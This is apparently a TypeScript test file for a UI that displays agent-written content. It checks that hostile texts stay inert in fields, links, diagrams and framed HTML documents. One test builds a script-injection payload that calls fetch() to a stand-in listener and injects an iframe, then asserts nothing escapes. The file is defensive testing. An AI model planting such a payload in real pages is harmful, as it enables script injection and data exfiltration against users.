// Everything that an agent writes may be hostile: in every field, as Markdown, as a diagram, as an HTML document.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { ShownDocument } from '../../schemas/messages.ts';
import { assertProven, sample } from '../prove/proven.ts';
import { withDecision } from './explaining.ts';
import { fence, HostilePages, roundOf } from './hostilePages.ts';
import type { Listeners } from './listeners.ts';
import { listen } from './listeners.ts';
import { StandInHost } from './standInHost.ts';

describe('hostile texts', () => {
  let pages: HostilePages;
  let some: readonly string[];
  before(async () => {
    pages = await HostilePages.start();
    // The same in each run; all of them in `npm run prove`.
    some = sample(pages.texts, 120, 1);
  });
  after(() => pages.stop());

  it('are at least 300', () => {
    assert.ok(pages.texts.length >= 300, `${pages.texts.length}`);
  });

  it('do nothing in any field of a round, on any of its screens', async () => {
    assertProven(await pages.inFields(some));
  });

  it('lead nowhere when every link of theirs is clicked', async () => {
    const { 'links of hostile texts clicked': count = 0 } = assertProven(await pages.asLinks(pages.texts));
    assert.ok(count > 50, `${count} links`);
  });

  it('do nothing as labels of diagrams', async () => {
    assertProven(await pages.inDiagrams(some));
  });

  it('do nothing as HTML documents beyond their frame', async () => {
    assertProven(await pages.asDocuments(some));
  });
});

describe('one page with what is broken, missing and hostile', () => {
  let host: StandInHost;
  let far: Listeners;
  before(async () => {
    host = await StandInHost.start();
    far = await listen();
  });
  after(async () => {
    await host.stop();
    far.stop();
  });

  it('shows the good, says what is wrong with the rest, and goes on being a form', async () => {
    const broken = ['flowchart LR\n  A -->', 'no such kind', 'pie\n  x : y', 'sequenceDiagram\n  A->>'];
    const good = 'flowchart LR\n  Good --> Diagram';
    const context =
      [...broken.slice(0, 2), good, ...broken.slice(2)].map(fence).join('\n') + '\n![gone](docs/gone.png)\n';
    const hostile = `<script>fetch('${far.http}/x'); top.hit = 1; document.body.innerHTML = '<iframe src="${far.tcp}/f"></iframe>'</script>`;
    const options = [
      { value: 'a', label: 'First', consequences: 'x', explainer: { title: 'Hostile', path: 'docs/hostile.html' } },
      { value: 'b', label: 'Second', consequences: 'y' },
    ];
    const shown = withDecision({
      context,
      explainer: { title: 'Missing', path: 'docs/missing.md' },
      input: { type: 'single', options, allow_other: true },
    });
    const standIn = await host.open({ picture: shown, height: 3000 });
    const { page } = standIn;
    const give = (path: string, document: ShownDocument): Promise<void> =>
      standIn.send({ type: 'document', path, document });
    await give('docs/gone.png', { is: 'missing' });
    await give('docs/missing.md', { is: 'missing' });
    await page.getByText('Hostile', { exact: true }).click();
    await standIn.posted('documentShown', 3);
    await give('docs/hostile.html', { is: 'html', hash: 'f'.repeat(64), text: hostile });
    await page.getByRole('img', { name: /Good, Diagram|Diagram, Good/ }).waitFor();
    await standIn.posted('diagramFailed', 4);
    assert.equal(await page.getByRole('group', { name: 'Broken diagram' }).count(), 4);
    await page.getByText('docs/gone.png is not there yet').waitFor();
    await page.getByText('docs/missing.md is not there yet').waitFor();
    await page.getByRole('radio', { name: 'Second' }).click();
    await page.getByRole('textbox', { name: 'Something else' }).pressSequentially('typed');
    assert.equal((await standIn.sent('one')).other, 'typed');
    await page.waitForTimeout(800);
    assert.deepEqual(far.heard, []);
    assert.equal(await page.evaluate(() => 'hit' in window), false);
    const strays = await page.evaluate(
      () => [...document.body.children].filter(({ id, localName }) => id !== 'app' && localName !== 'script').length,
    );
    assert.equal(strays, 0);
  });

  it('leaves the form in reach under a title as long as a page', async () => {
    const standIn = await host.open({ picture: roundOf('A title without an end. '.repeat(400)) });
    const share = await standIn.page
      .locator('.main')
      .evaluate((main) => main.getBoundingClientRect().height / innerHeight);
    assert.ok(share > 0.3, `${share} of the window`);
    await standIn.page.locator('.rail-item').last().click();
    await standIn.page.locator('.rail-item[aria-current]').last().waitFor();
  });
});
